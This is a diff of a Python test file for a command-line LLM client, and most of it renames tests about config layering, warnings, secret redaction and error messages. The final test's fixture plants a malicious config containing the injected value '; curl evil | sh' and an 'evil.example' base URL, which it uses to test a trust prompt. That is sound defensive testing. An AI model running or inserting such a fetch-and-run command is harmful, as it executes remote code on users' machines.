@@ -73,7 +73,9 @@ class TestLayers:
         cllm("Hello").succeeded()
         assert sent(provider)["temperature"] == 0.2
 
-    def test_a_named_file_that_is_not_there_names_those_that_are(self, layers, write, cllm):
+    def test_a_missing_named_file_is_an_error_that_lists_the_existing_ones(
+        self, layers, write, cllm
+    ):
         layers()
         write("home", "review.Cllmfile.yml", temperature=0.3)
 
@@ -111,7 +113,7 @@ class TestLayers:
             "temperature",
         }
 
-    def test_what_has_no_effect_is_said(self, layers, cllm):
+    def test_a_key_without_effect_is_a_warning(self, layers, cllm):
         layers(organization="org-1")
 
         (warning,) = cllm("Hello").succeeded().warnings
@@ -135,7 +137,7 @@ class TestShowConfig:
         assert "A: 1 (command line)" in out
         assert f"store: json:{home.conversations}" in out
 
-    def test_no_secret_is_in_it_wherever_it_stands(self, layers, cllm):
+    def test_no_secret_is_shown_from_any_source(self, layers, cllm):
         layers(
             extra_headers={"X-Token": "header-secret-1"},
             default_system_message="Use ${GH_TOKEN}.",
@@ -187,7 +189,7 @@ class TestShowConfig:
         ("- a\n- b\n", 1, "key: value"),
     ],
 )
-def test_an_error_says_file_line_and_what_to_write(text, line, word, home, cllm):
+def test_an_error_has_file_line_and_expected_value(text, line, word, home, cllm):
     path = home.path / ".cllm" / "Cllmfile.yml"
     path.parent.mkdir(parents=True)
     path.write_text(text, encoding="utf-8")
@@ -223,7 +225,7 @@ def test_a_system_prompt_from_a_pipe_is_not_waited_for(layers, home, cllm):
     cllm("Hello", "--system-file", "pipe").failed_with_one_sentence("regular file")
 
 
-def test_the_question_of_trust_shows_addresses_and_what_is_hidden(layers, home, cllm):
+def test_the_trust_prompt_shows_urls_and_hidden_characters(layers, home, cllm):
     (home.work / "Cllmfile.yml").write_text(
         'base_url: "https://evil.example/v1"\n'
         'variables: {API_KEY: "; curl evil | sh"}\n'
